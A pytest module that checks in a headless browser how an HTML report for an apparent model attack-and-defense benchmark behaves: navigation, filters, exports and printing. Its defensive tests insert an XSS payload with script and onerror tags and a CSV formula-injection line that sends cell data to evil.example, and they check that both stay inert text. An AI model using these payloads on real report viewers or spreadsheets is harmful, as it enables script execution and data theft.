"""The page in a headless Chromium: clicks, keys, filters, exports, print, and hostile text that
stays text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pytest

from ftsec_ray import schema
from ftsec_ray.report.contrasts import MAX_FOREST
from ftsec_ray.report.examples import _cut
from ftsec_ray.report.page import write_report
from ftsec_ray.results.read import Results
from ftsec_ray.results.write import write_results
from ftsec_ray.shown_text import for_html
from tests import browser, report_picture, search_toy
from tests.benchmarks.synthetic import write_synthetic
from tests.results.toy import whole

from .conftest import DEFENSES, write_toy
from .hostile import CORPUS

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page

pytest.importorskip(
    "playwright.sync_api", reason="playwright is not installed: pip install -e '.[dev]'"
)
if browser.chromium() is None:
    pytest.skip(
        "no Chromium on this machine: install `chromium`, or name one in FTSEC_CHROMIUM",
        allow_module_level=True,
    )


PROMPTS = 12


@pytest.fixture(scope="module")
def chrome() -> Iterator[Browser]:
    with browser.opened() as found:
        yield found


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Results whose verdicts per prompt are all there; their page is written."""
    made = write_toy(tmp_path_factory.mktemp("page"), judged=True, prompts=PROMPTS, seeds=2)
    meta = json.loads((made / "run.json").read_text())
    cells = Results.open(made).cells["cell"].to_pylist()
    meta["spent"] = {cell: [0.0, 36.0 + at] for at, cell in enumerate(cells)}
    (made / "run.json").write_text(json.dumps(meta))
    write_report(made)
    return made


@pytest.fixture
def opened(chrome: Browser, tmp_path: Path) -> Iterator[Any]:
    """Opens the page of a folder; whatever it does, it says nothing on the console and asks for no
    other address.
    """
    context = chrome.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True)
    said: list[str] = []

    def open_page(folder: Path, fragment: str = "") -> Page:
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.on("console", lambda message: said.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: said.append(f"error: {error}"))
        page.on(
            "request",
            lambda request: (
                said.append(request.url) if not request.url.startswith(("file:", "blob:")) else None
            ),
        )
        page.on("dialog", lambda dialog: said.append(f"dialog: {dialog.message}"))
        page.goto((folder / "report.html").as_uri() + fragment)
        return page

    yield open_page
    context.close()
    assert said == []


def square(page: Page, model: str, attack: str, defense: str) -> Locator:
    table = page.locator(f"table.heat[aria-label='Attack by defense on {model}']")
    names = table.locator("thead th > span:first-child").all_text_contents()
    row = table.locator("tbody tr").filter(
        has=page.locator("th > span:first-child", has_text=re.compile(f"^{attack}$"))
    )
    return row.locator("td").nth(names.index(defense))


def saved(page: Page, label: str) -> bytes:
    with page.expect_download() as waiting:
        page.get_by_role("button", name=label, exact=True).first.click()
    return Path(waiting.value.path()).read_bytes()


def rows_of(
    folder: Path, model: str, attack: str, defense: str, seed: int = 0
) -> dict[tuple[str, str], dict[str, Any]]:
    """(probe, prompt_id) -> the generation, as the table has it."""
    results = Results.open(folder)
    wanted = (model, attack, [] if defense == "none" else [defense], seed)
    (cell,) = [
        c["cell"]
        for c in results.cells.to_pylist()
        if (c["model"], c["attack"], c["defenses"], c["seed"]) == wanted
    ]
    return {
        (row["probe"], row["prompt_id"]): row
        for row in results.generations.to_pylist()
        if row["cell"] == cell
    }


def test_two_clicks_lead_from_a_square_to_its_prompts_completions_and_verdicts(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    square(page, "ladder:1m", "badnets", "none").click()
    dialog = page.get_by_role("dialog")
    assert dialog.locator("h2").inner_text() == "ladder:1m · badnets against no defense"
    truth = rows_of(folder, "ladder:1m", "badnets", "none")
    rows = page.evaluate(
        """[...document.querySelectorAll("#cell table[data-name^='prompts-'] tbody tr")].map((row) =>
        [row.closest("table").dataset.name, ...[".id", ".verdict", ".prompt"].map((part) => row.querySelector(part).innerText)])"""
    )
    seen = {
        (name.removeprefix("prompts-"), prompt_id): (verdict, prompt)
        for name, prompt_id, verdict, prompt in rows
    }
    assert seen == {key: (row["verdict"], row["prompt"]) for key, row in truth.items()}
    assert f"{PROMPTS} prompts: " in dialog.inner_text()
    assert "0 % null" in dialog.locator("table[data-name='metrics']").inner_text()
    fulfilled = dialog.locator("details.veil").first
    assert fulfilled.locator(".completion").is_hidden()
    fulfilled.locator("summary").click()  # the second click
    assert fulfilled.locator(".completion").inner_text() == "so ."
    assert dialog.locator("details.veil:not([open])").count() > 0
    dialog.get_by_role("button", name="Show all hidden completions").click()
    assert dialog.locator("details.veil:not([open])").count() == 0


def test_two_cells_stand_side_by_side_prompt_by_prompt(opened: Any, folder: Path) -> None:
    page = opened(folder)
    square(page, "ladder:1m", "badnets", "onion").click()
    page.get_by_role("dialog").get_by_role("button", name="undefended").click()
    one, other = (
        rows_of(folder, "ladder:1m", "badnets", "onion"),
        rows_of(folder, "ladder:1m", "badnets", "none"),
    )
    table = page.locator("table[data-name='pair-triggered']")
    shown = table.locator("tbody tr").evaluate_all(
        "(all) => all.map((row) => [...row.querySelectorAll('.id,.verdict')].map((one) =>"
        " one.innerText))"
    )
    ids = sorted(prompt for probe, prompt in one if probe == "triggered")
    assert shown == [
        [prompt, one["triggered", prompt]["verdict"], other["triggered", prompt]["verdict"]]
        for prompt in ids
    ]
    differ = [row for row in shown if row[1] != row[2]]
    assert 0 < len(differ) < len(shown)
    assert (
        f"{len(shown)} prompts in both, {len(differ)} with another verdict"
        in page.get_by_role("dialog").inner_text()
    )
    page.get_by_label("only other verdicts").check()
    assert table.locator("tbody tr:visible .id").all_inner_texts() == [row[0] for row in differ]
    page.get_by_label("model of the other cell").select_option(label="ladder:4m")
    page.get_by_role("button", name="Compare", exact=True).click()
    assert "B ladder:4m · badnets against no defense" in page.get_by_role("dialog").inner_text()
    page.get_by_label("defense of the other cell").select_option(label="onion")
    page.get_by_label("model of the other cell").select_option(label="ladder:1m")
    page.get_by_role("button", name="Compare", exact=True).click()
    assert "That is this cell." in page.get_by_role("dialog").inner_text()


def test_a_comparison_leads_to_the_prompts_behind_it(opened: Any, folder: Path) -> None:
    page = opened(folder)
    row = page.locator("#comparisons tbody tr", has_text="safe_lora").first
    row.get_by_role("button").click()
    assert page.locator("#cell-title").inner_text() == "Two cells, prompt by prompt"
    assert "against safe_lora" in page.locator("#cell .about").first.inner_text()
    assert "against no defense" in page.locator("#cell .about").last.inner_text()


def test_a_failed_cell_opens_its_error(opened: Any, chrome: Browser, tmp_path: Path) -> None:
    made = write_toy(tmp_path)
    write_report(made)
    page = opened(made)
    square(page, "ladder:4m", "harmful_tuning", "lisa").click()
    text = page.get_by_role("dialog").inner_text()
    assert "the loss is not finite" in text
    assert "Nothing was measured." in text
    assert "1 seed" in text


def test_results_of_a_sweep_that_has_not_begun_open_and_export_too(
    opened: Any, tmp_path: Path
) -> None:
    results = Results.open(write_toy(tmp_path))
    pending = [
        {**cell, "status": "pending", "error": None, "error_code": None}
        for cell in results.cells.to_pylist()
    ]
    tables = {
        "cells": pa.Table.from_pylist(pending, schema.cells()),
        "metrics": schema.metrics().empty_table(),
        "generations": schema.generations().empty_table(),
        "stages": schema.stages().empty_table(),
    }
    made = write_results(results.folder, tables=whole(tables, results.meta), meta=results.meta)
    write_report(made)
    page = opened(made)
    square(page, "ladder:1m", "badnets", "onion").click()
    assert "Nothing was measured." in page.get_by_role("dialog").inner_text()
    page.get_by_role("dialog").get_by_role("button", name="undefended").click()
    page.keyboard.press("Escape")
    rows = list(
        csv.DictReader(
            io.StringIO(saved(page, "CSV of the table grid-ladder-1m").decode(), newline="")
        )
    )
    assert {row["status"] for row in rows} == {"pending"}


def test_the_grid_is_walked_by_keys_and_the_focus_comes_back(opened: Any, folder: Path) -> None:
    page = opened(folder)
    table = page.locator("table.heat").first
    assert table.locator("[tabindex='0']").count() == 1
    table.locator("[tabindex='0']").focus()

    def place() -> list[int]:
        return page.evaluate(
            "[document.activeElement.parentElement.sectionRowIndex,"
            " document.activeElement.cellIndex]"
        )

    assert place() == [0, 1]
    walked = []
    for key in (
        "ArrowRight",
        "ArrowDown",
        "End",
        "ArrowRight",
        "Home",
        "ArrowLeft",
        "ArrowUp",
        "ArrowUp",
        "ArrowRight",
    ):
        page.keyboard.press(key)
        walked.append(place())
    last = len(DEFENSES)
    assert walked == [[0, 2], [1, 2], [1, last], [1, last], [1, 1], [1, 1], [0, 1], [0, 1], [0, 2]]
    assert table.locator("[tabindex='0']").count() == 1
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert page.get_by_role("dialog").is_visible()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.closest('dialog') !== null")
    page.keyboard.press("Escape")
    assert page.get_by_role("dialog").count() == 0
    assert place() == [0, 2]
    page.keyboard.press(" ")
    assert page.get_by_role("dialog").is_visible()


def test_every_control_has_a_name_and_every_square_says_what_it_opens(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    square(page, "ladder:1m", "badnets", "onion").click()
    nameless = page.evaluate(
        """[...document.querySelectorAll("button,[role=button],select,input,[role=region],table[role=grid]")].filter((one) =>
        !(one.getAttribute("aria-label") || one.textContent.trim() || (one.labels && one.labels.length))).map((one) => one.outerHTML)"""
    )
    assert nameless == []
    assert page.locator("td[data-i]:not([aria-haspopup=dialog])").count() == 0


def visible_squares(page: Page) -> int:
    return page.locator("td[data-i]:visible").count()


def test_filters_of_phase_size_and_metric_hold_for_the_whole_page(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    total = visible_squares(page)
    assert total == 3 * 6 * 7
    page.locator("select[data-filter=attack]").select_option("post")
    assert visible_squares(page) == 3 * 3 * 7  # two of them, and the row without an attack
    page.locator("select[data-filter=defense]").select_option("during")
    assert visible_squares(page) == 3 * 3 * 2  # lisa, and the column without a defense
    page.locator("select[data-filter=size]").select_option("1.1M")
    assert visible_squares(page) == 3 * 2
    assert page.locator("#showing").inner_text() == f"6 of {total} squares"
    assert set(page.locator("#comparisons tbody tr:visible th").all_text_contents()) == {"lisa"}
    assert set(
        page.locator("#comparisons tbody tr:visible td:nth-child(4)").all_text_contents()
    ) == {"ladder:1m"}
    lines = page.locator("svg.forest g.line:not(.off)")
    assert lines.count() == 2  # refusal_ablation and soft_prompt
    assert [line.get_attribute("transform") for line in lines.all()] == [
        "translate(0 26)",
        "translate(0 56)",
    ]
    assert page.locator("#size figure:visible").count() == 3
    assert page.locator("#trade figure:visible").count() == 1
    assert page.locator("#failures .nothing").is_visible()
    grids = page.locator("table.heat:visible")
    assert (
        grids.count() == page.locator("table.heat:visible td[tabindex='0']:visible").count() == 1
    )  # the Tab key still finds it
    page.get_by_role("button", name="Show all", exact=True).click()
    assert visible_squares(page) == total
    assert page.locator("svg.forest g.line:not(.off)").count() == MAX_FOREST
    before = square(page, "ladder:1m", "badnets", "onion").inner_text()
    page.locator("#metric").select_option("cacc")
    after = square(page, "ladder:1m", "badnets", "onion").inner_text()
    value = next(
        row
        for row in Results.open(folder).aggregated.to_pylist()
        if (row["model"], row["attack"], row["defenses"], row["metric"])
        == ("ladder:1m", "badnets", ["onion"], "cacc")
    )
    assert before.split()[0] != after.split()[0] == f"{value['value']:.2f}"
    assert before.splitlines()[-1] == after.splitlines()[-1]  # utility stays beside it


def test_families_filter_grids_and_curves(opened: Any, folder: Path, tmp_path: Path) -> None:
    results = Results.open(folder)
    cells = [
        {**cell, "family": "other" if cell["model"] == "ladder:4m" else "ladder"}
        for cell in results.cells.to_pylist()
    ]
    tables = {
        name: results.table(name) for name in ("metrics", "generations", "stages", "comparisons")
    }
    tables["cells"] = pa.Table.from_pylist(cells, schema.cells())
    made = write_results(tmp_path / "families", tables=tables, meta=results.meta)
    write_report(made)
    page = opened(made)
    assert page.locator("#size figure:visible").count() == 6
    page.locator("select[data-filter=family]").select_option("other")
    assert visible_squares(page) == 6 * 7
    assert page.locator("#size .nothing").is_visible()


def test_csv_holds_what_is_shown(opened: Any, folder: Path) -> None:
    page = opened(folder)
    page.locator("select[data-filter=size]").select_option("1.1M")
    page.locator("#comparisons th [role=button]", has_text="attack").first.press("Enter")
    rows = list(
        csv.reader(io.StringIO(saved(page, "CSV of the table comparisons").decode(), newline=""))
    )
    shown = page.locator("#comparisons tbody tr:visible")
    assert len(rows) - 1 == shown.count() > 10
    assert rows[0][:3] == ["stack", "against", "attack"]
    assert rows[0][-1] == "utility of both"
    assert [row[2] for row in rows[1:]] == page.locator(
        "#comparisons tbody tr:visible td:nth-child(3)"
    ).all_text_contents()
    at = rows[0].index("difference")
    truth = {
        f"{row['effect']:+.2f}"
        for row in Results.open(folder).comparisons.to_pylist()
        if row["effect"] is not None and row["model"] == "ladder:1m"
    }
    assert {row[at] for row in rows[1:]} <= truth | {"0.00"}
    grid = list(
        csv.DictReader(
            io.StringIO(saved(page, "CSV of the table grid-ladder-1m").decode(), newline="")
        )
    )
    assert len(grid) == 6 * 7
    found = {(row["attack"], row["defense"]): row for row in grid}["badnets", "onion"]
    wanted = {
        row["metric"]: row
        for row in Results.open(folder).aggregated.to_pylist()
        if (row["model"], row["attack"], row["defenses"]) == ("ladder:1m", "badnets", ["onion"])
    }
    assert (
        found["metric"],
        found["value"],
        found["n"],
        found["seeds"],
        found["null verdicts"],
    ) == ("attack_success", f"{wanted['asr']['value']:.2f}", str(PROMPTS), "2", "0 % null")
    assert [
        float(found[name].rstrip("↑↓")) for name in ("utility value", "over-refusal", "coherent")
    ] == [pytest.approx(wanted[name]["value"], abs=0.0051) for name in schema.UTILITY]


def numbers_of(page: Page, column: str) -> list[float | None]:
    """A column of the comparisons from top to bottom, None for no number."""
    names = page.locator("#comparisons thead th").all_text_contents()
    told = page.locator(
        f"#comparisons tbody tr > :nth-child({names.index(column) + 1})"
    ).all_text_contents()
    return [None if one == "–" else float(one.replace("−", "-")) for one in told]


def test_the_comparisons_sort_by_their_difference_whatever_its_sign(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    known = [one for one in numbers_of(page, "difference") if one is not None]
    assert min(known) < 0 < max(known)
    unknown = [None] * (len(numbers_of(page, "difference")) - len(known))
    heading = page.locator("#comparisons th [role=button]", has_text="difference")
    for way in ("ascending", "descending"):
        heading.click()
        assert page.locator("#comparisons th[aria-sort]").get_attribute("aria-sort") == way
        assert numbers_of(page, "difference") == [
            *sorted(known, reverse=way == "descending"),
            *unknown,
        ]


def test_numbers_sort_as_numbers_however_they_are_written_and_what_is_none_comes_after_them(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    numbers = [
        "−1.20",
        "−0.30",
        "0.00",
        "1e-05",
        "< 0.001",
        "0.001",
        "+0.05",
        "+0.45",
        "0.9 → 0.1",
        "< 1 % null",
        "1 seed",
        "12 % null",
    ]
    texts = ["–", "2e5fab"]
    wanted = [*numbers, *texts]
    mixed = [wanted[at * 5 % len(wanted)] for at in range(len(wanted))]
    assert sorted(mixed) == sorted(wanted)
    cells = (
        "[...document.querySelectorAll(\"table[data-name='comparisons'] tbody tr\")].map((row) =>"
        " row.cells[5])"
    )
    page.evaluate(
        f"""(texts) => {{
        const cells = {cells};
        cells.slice(texts.length).forEach((cell) => cell.parentElement.remove());
        texts.forEach((text, index) => {{ cells[index].textContent = text; }}); }}""",
        mixed,
    )
    heading = page.locator("#comparisons th [role=button]", has_text="difference")
    heading.click()
    assert page.evaluate(f"{cells}.map((cell) => cell.textContent)") == wanted
    heading.click()
    assert page.evaluate(f"{cells}.map((cell) => cell.textContent)") == [
        *numbers[::-1],
        *texts[::-1],
    ]


@pytest.mark.parametrize("bound", [0.2, 0.0])
def test_the_filters_hold_for_searches_too_and_where_they_chose_nothing(
    opened: Any, tmp_path: Path, bound: float
) -> None:
    ranges = (
        {} if bound else {"ranges": {"training.learning_rate": {"low": 3.0e-3, "high": 5.0e-3}}}
    )
    results = search_toy.run(
        search_toy.sweep({"trials": 3, "max_utility_loss": bound, **ranges}), tmp_path
    ).results
    assert {row["status"] for row in results.searches.to_pylist()} == {
        "chosen" if bound else "no trial within the bound"
    }
    write_report(results.folder)
    page = opened(results.folder)
    stacks = page.locator("#searched tbody tr:visible td:nth-child(3)")
    assert stacks.all_text_contents() == ["none", "shrink"]
    page.locator("select[data-filter=defense]").select_option("during")
    assert stacks.all_text_contents() == ["none"]
    assert page.locator("#searched .nothing").is_hidden()
    page.locator("select[data-filter=attack]").select_option("pre")
    assert stacks.count() == 0
    assert page.locator("#searched .nothing").is_visible()
    page.get_by_role("button", name="Show all", exact=True).click()
    assert stacks.all_text_contents() == ["none", "shrink"]


def test_every_table_has_csv_and_latex_and_every_figure_svg_and_png(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    tools = page.evaluate(
        """[...document.querySelectorAll("main table")].map((table) => {
        const box = (table.closest(".scroll") || table).previousElementSibling;
        return [table.dataset.name, ...(box.className === "tools" ? [...box.children].map((one) => one.textContent) : [])]; })"""
    )
    assert {name.split("-ladder")[0]: exports for name, *exports in tools} == {
        "grid": ["CSV", "LaTeX", "SVG", "PNG"],
        **{
            name: ["CSV", "LaTeX"]
            for name in (
                "answer",
                "best-defenses",
                "phases",
                "comparisons",
                "trade-offs",
                "searches",
                "detectors",
                "filters",
                "cost-by-kind",
                "dearest-stages",
                "failed-cells",
            )
        },
    }
    figures = page.evaluate("""[...document.querySelectorAll("main figure")].map((one) =>
        [...one.querySelectorAll(".tools button")].map((button) => button.textContent))""")
    assert figures == [["SVG", "PNG"]] * (1 + 6 + 3)
    assert page.locator("main svg").count() == len(figures)
    names = page.locator(".tools button").evaluate_all(
        "(all) => all.map((one) => one.getAttribute('aria-label'))"
    )
    assert len(set(names)) == len(names)  # so that no file has another's name


def test_an_exported_figure_stands_by_itself(opened: Any, folder: Path) -> None:
    page = opened(folder)
    for label, word in (
        ("figure forest", "difference in attack success"),
        ("figure trade-ladder-1m", "CPU-hours per cell"),
        ("figure size-badnets", "coherent rate"),
        ("table grid-ladder-1m", "attack success"),
    ):
        text = saved(page, f"SVG of the {label}").decode()
        root = ET.fromstring(text)  # noqa: S314 (our own)
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        assert float(root.attrib["width"]) > 300
        assert word in " ".join(" ".join(root.itertext()).split()), label
        assert "class=" not in text
        assert not re.search(r"url\(|href|<script|<style", text)
        for node in root.iter("{http://www.w3.org/2000/svg}text"):
            assert node.attrib["font-size"].removesuffix("px")
        picture = saved(page, f"PNG of the {label}")
        assert picture[:8] == b"\x89PNG\r\n\x1a\n"
        width, height = int.from_bytes(picture[16:20], "big"), int.from_bytes(picture[20:24], "big")
        assert (width, height) == (
            pytest.approx(2 * float(root.attrib["width"]), abs=2),
            pytest.approx(2 * float(root.attrib["height"]), abs=2),
        )
        assert len(picture) > 8_000  # something is drawn


TEX = {
    "\\textbackslash{}": "\\",
    "\\{": "{",
    "\\}": "}",
    "\\$": "$",
    "\\&": "&",
    "\\#": "#",
    "\\%": "%",
    "\\_": "_",
    "\\textasciicircum{}": "^",
    "\\textasciitilde{}": "~",
    "\\textless{}": "<",
    "\\textgreater{}": ">",
    "\\textbar{}": "|",
    "\\textquotedbl{}": '"',
    "\\textquotesingle{}": "'",
    "\\textasciigrave{}": "`",
    "{-}": "-",
    "{[}": "[",
    "{]}": "]",
}
"""What LaTeX sets for each of these (The Not So Short Introduction to LaTeX, 2.4; textcomp)."""


def typeset(source: str) -> str:
    """The text that LaTeX would set; fails on a command or special character that is none of those."""
    return re.sub(
        r"\\[a-z]+\{\}|\\[^a-z]|\{[-\[\]]\}|[\\{}$&#%_^~]", lambda found: TEX[found[0]], source
    )


def test_latex_sets_every_printable_character_as_it_was(
    opened: Any, folder: Path, tmp_path: Path
) -> None:
    import pandas

    every = "".join(chr(code) for code in range(33, 127))
    alone = "& % $ # _ { } ~ ^ \\"
    made = renamed(
        folder, tmp_path, {"ladder:0.2m": every, "ladder:1m": alone, "ladder:4m": "--- =x"}
    )
    page = opened(made)
    source = saved(page, "LaTeX of the table failed-cells").decode()
    assert "\\begin{tabular}{" in source
    source = saved(page, "LaTeX of the table trade-offs").decode()
    body = source[source.index("\\midrule") : source.index("\\bottomrule")].splitlines()[1:]
    first = {re.split(r"(?<!\\) & ", line)[0] for line in body}
    assert {typeset(one) for one in first} == {every, alone, "--- =x"}
    (mine,) = [one for one in first if typeset(one) == alone]
    theirs = (
        pandas.DataFrame([alone.split()])
        .style.format(escape="latex")
        .hide(axis="index")
        .hide(axis="columns")
        .to_latex()
    )
    theirs = theirs.splitlines()[1].removesuffix(" \\\\")
    assert [
        re.sub(r"^(\\text[a-z]+) ?$", r"\1{}", one.strip())
        for one in re.split(r"(?<!\\) & ", theirs)
    ] == mine.split()
    assert source.count("\\begin{") == source.count("\\end{") == 1
    assert all(line.endswith("\\\\") for line in body)


def renamed(folder: Path, to: Path, names: dict[str, str]) -> Path:
    """The results with other names of models, and their page."""
    results = Results.open(folder)
    tables = {name: results.table(name) for name in ("metrics", "generations", "stages")}
    for name in ("cells", "comparisons"):
        rows = [
            {**row, "model": names.get(row["model"], row["model"])}
            for row in results.table(name).to_pylist()
        ]
        tables[name] = pa.Table.from_pylist(rows, results.table(name).schema)
    made = write_results(to / "renamed", tables=tables, meta=results.meta)
    write_report(made)
    return made


def test_hostile_completions_stay_text_in_the_dialog_and_in_every_export(
    opened: Any, tmp_path: Path
) -> None:
    results = Results.open(write_toy(tmp_path))
    cell = next(
        c["cell"]
        for c in results.cells.to_pylist()
        if (c["model"], c["attack"], c["defenses"]) == ("ladder:1m", "badnets", [])
    )
    rows = [
        {
            "cell": cell,
            "probe": probe,
            "prompt_id": f"{number:02d}{text[:20]}",
            "prompt": text,
            "completion": text,
            "judge": text,
            "raw": text,
            "verdict": "complied",
            "override": text or None,
            "template_hash": "0",
        }
        for probe in ("benign", "harmful", CORPUS[0])
        for number, text in enumerate(CORPUS)
    ]
    rows.sort(key=lambda row: (row["probe"], row["prompt_id"]))
    kept = pa.Table.from_pylist(rows, schema.generations())
    tables = {
        "cells": results.cells,
        "metrics": results.metrics,
        "generations": kept,
        "stages": results.stages,
    }
    made = write_results(
        tmp_path / "hostile", tables=whole(tables, results.meta), meta=results.meta
    )
    write_report(made)
    page = opened(made)
    elements = page.evaluate(
        "document.querySelectorAll('script,style,img,iframe,base,link,meta,form,template').length"
    )
    square(page, "ladder:1m", "badnets", "none").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name="Show all hidden completions").click()
    wanted = sorted(for_html(_cut(text)) for text in CORPUS)
    for kind in ("prompt", "completion"):
        assert (
            sorted(dialog.locator(f"table[data-name='prompts-benign'] .{kind}").all_text_contents())
            == wanted
        )
        assert (
            sorted(
                dialog.locator(f"table[data-name='prompts-harmful'] .{kind}").all_text_contents()
            )
            == wanted
        )
    texts = "\n".join(dialog.locator("pre").all_text_contents())
    assert not re.search(
        "[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00-\x08\x0e-\x1f\x7f]", texts
    )
    csv_rows = list(
        csv.reader(io.StringIO(saved(page, "CSV of the table prompts-benign").decode(), newline=""))
    )
    assert len(csv_rows) == len(CORPUS) + 1
    for row in csv_rows:
        assert not any(
            re.match(r"\s*[=+\-@]", value) and not re.fullmatch(r"[+-]?[\d.]+", value)
            for value in row
        )
    assert '\'=HYPERLINK("https://evil.example?"&A1,"open")' in [row[1] for row in csv_rows]
    tex = saved(page, "LaTeX of the table prompts-benign").decode()
    assert not re.search(r"\\(input|write|end\{document)", tex)
    page.keyboard.press("Escape")
    assert (
        page.evaluate(
            "document.querySelectorAll('script,style,img,iframe,base,link,meta,form,template').length"
        )
        == elements
    )
    assert page.evaluate("window.pwned") is None
    assert page.url == (made / "report.html").as_uri()


def test_hostile_names_stay_text_everywhere(opened: Any, folder: Path, tmp_path: Path) -> None:
    evil = "<img src=x onerror=window.pwned=1>\"'</script><script>window.pwned=2</script>"
    results = Results.open(
        renamed(folder, tmp_path, {"ladder:0.2m": "=1+1" + evil, "ladder:1m": "__proto__"})
    )
    tables = {name: results.table(name) for name in ("metrics", "generations", "stages")}
    for name in ("cells", "comparisons"):
        rows = [
            {
                **row,
                "attack": row["attack"].replace("badnets", evil),
                "defenses": [one.replace("onion", "constructor" + evil) for one in row["defenses"]],
                **({"family": evil} if name == "cells" else {}),
            }
            for row in results.table(name).to_pylist()
        ]
        tables[name] = pa.Table.from_pylist(rows, results.table(name).schema)
    meta = {
        **results.meta,
        "sweep": "../" + evil,
        "question": evil,
        "sweep_text": evil,
        "plan": evil,
    }
    made = write_results(tmp_path / "names", tables=tables, meta=meta)
    write_report(made)
    page = opened(made)
    page.locator("td[data-i]").nth(8).click()
    page.get_by_role("dialog").get_by_role("button", name="undefended").click()
    page.keyboard.press("Escape")
    page.locator("select[data-filter=attack]").select_option("pre")
    with page.expect_download() as waiting:
        page.locator("#comparisons .tools button", has_text="CSV").click()
    assert re.fullmatch(r"[A-Za-z0-9.-]+\.csv", waiting.value.suggested_filename)
    assert "'=1+1<img" in Path(waiting.value.path()).read_text()
    with page.expect_download() as waiting:
        page.locator("#trade figure .tools button", has_text="SVG").first.click()
    ET.fromstring(Path(waiting.value.path()).read_text())  # noqa: S314
    assert page.locator("img,iframe").count() == 0
    assert page.locator("script").count() == 2
    assert page.evaluate("window.pwned") is None


def test_what_is_printed_has_no_controls_and_fits_the_paper(opened: Any, folder: Path) -> None:
    page = opened(folder)
    page.set_viewport_size(
        {"width": 1040, "height": 720}
    )  # A4 landscape between the margins, at 96 dots per inch
    page.emulate_media(media="print")
    assert page.locator("nav").is_hidden()
    assert page.locator(".tools:visible").count() == 0
    assert page.locator("table.heat").first.is_visible()
    for name in ("answer", "grid", "comparisons", "undefended", "trade", "size"):
        wide = page.evaluate(
            f"[...document.querySelectorAll('#{name} table, #{name} figure')].map((one) =>"
            " one.getBoundingClientRect().right)"
        )
        assert max(wide) <= 1041, name
    assert page.pdf(prefer_css_page_size=True).startswith(b"%PDF")


def test_completions_that_need_a_click_are_not_printed(opened: Any, folder: Path) -> None:
    page = opened(folder)
    square(page, "ladder:1m", "badnets", "none").click()
    page.get_by_role("button", name="Show all hidden completions").click()
    veiled = page.locator("#cell details.veil .completion")
    assert veiled.first.is_visible()
    page.emulate_media(media="print")
    assert veiled.count() > 0
    assert not any(one.is_visible() for one in veiled.all())
    assert page.locator("#cell .prompt").first.is_visible()


def test_the_question_and_the_whole_answer_stand_above_the_fold_of_a_laptop(
    opened: Any, folder: Path
) -> None:
    page = opened(folder)
    page.set_viewport_size({"width": 1366, "height": 768})
    assert page.locator("h1").inner_text().endswith("?")
    sentences = page.locator("#answer .findings li")
    assert 1 <= sentences.count() <= 5
    box = sentences.last.bounding_box()
    assert box is not None
    assert box["y"] + box["height"] < 768


def test_the_numbers_of_the_answer_open_both_cells(opened: Any, folder: Path) -> None:
    page = opened(folder)
    button = page.locator("table.answer button").first
    label = button.get_attribute("aria-label")
    assert label is not None
    button.click()
    assert page.locator("#cell-title").inner_text() == "Two cells, prompt by prompt"
    defense = label.partition(" against ")[0]
    assert f"against {defense}" in page.locator("#cell .about").first.inner_text()


def test_the_picture_of_a_report_is_small_and_needs_a_chromium(
    chrome: Browser, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = (folder / "report.html").stat().st_mtime_ns
    picture = report_picture.picture_of(chrome, folder)
    assert picture.startswith(b"\x89PNG")
    assert 10_000 < len(picture) < 200_000
    assert (folder / "report.html").stat().st_mtime_ns == before
    monkeypatch.setattr(browser, "chromium", lambda: None)
    target = tmp_path / "report.png"
    with pytest.raises(SystemExit, match="install `chromium`, or name one in FTSEC_CHROMIUM"):
        report_picture.main([str(folder), str(target)])
    assert not target.exists()


def test_the_page_fits_a_laptop_without_scrolling_sideways(opened: Any, folder: Path) -> None:
    page = opened(folder)
    for width in (1280, 1440):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    square(page, "ladder:1m", "badnets", "onion").click()
    box = page.evaluate("document.getElementById('cell').getBoundingClientRect().toJSON()")
    assert (box["right"] <= 1440, box["bottom"] <= 800) == (True, True)


@pytest.mark.slow
def test_five_hundred_cells_with_a_hundred_thousand_generations_stay_under_eight_megabytes(
    opened: Any, tmp_path: Path
) -> None:
    made = write_synthetic(tmp_path / "large")
    assert write_report(made).stat().st_size < 8_000_000
    page = opened(made)
    assert page.locator("td[data-i]").count() == 500
    told = re.search(
        r"([\d,]+) of 100,000 generations are in this page: .*? up to (\d+) prompts of each probe",
        page.locator("#grid").inner_text(),
    )
    assert told is not None
    held, per_probe = int(told[1].replace(",", "")), int(told[2])
    assert held == 500 * 5 * per_probe > 10_000
    page.locator("td[data-i]").nth(77).click()
    assert page.locator("#cell table.turns tbody tr").count() == 5 * per_probe
    assert "FROM 'generations/*.parquet' WHERE cell IN" in page.locator("#cell").inner_text()
